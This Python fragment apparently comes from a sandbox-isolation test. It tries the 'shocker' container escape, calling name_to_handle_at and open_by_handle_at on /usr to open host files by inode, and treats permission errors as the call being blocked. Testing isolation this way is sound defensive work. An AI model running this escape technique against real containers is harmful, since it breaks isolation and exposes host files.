# tries: open files of the host by handle
# why: the "shocker" escape: a handle names an inode of the file system, whatever the root
handle = ctypes.create_string_buffer(136)
handle[0:4] = (128).to_bytes(4, "little")
mount_id = ctypes.create_string_buffer(8)
reach("name_to_handle_at", 303, -100, b"/usr", handle, mount_id, 0)
def by_handle():
    top = os.open("/usr", os.O_RDONLY)
    guess = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 64)
    result, error = syscall(304, top, guess if not OUTSIDE else handle, 0)
    if result == -1 and error in (errno.EPERM, errno.ENOSYS):
        raise OSError(error, "open_by_handle_at")
    return result, error
attempt("open_by_handle_at", by_handle)
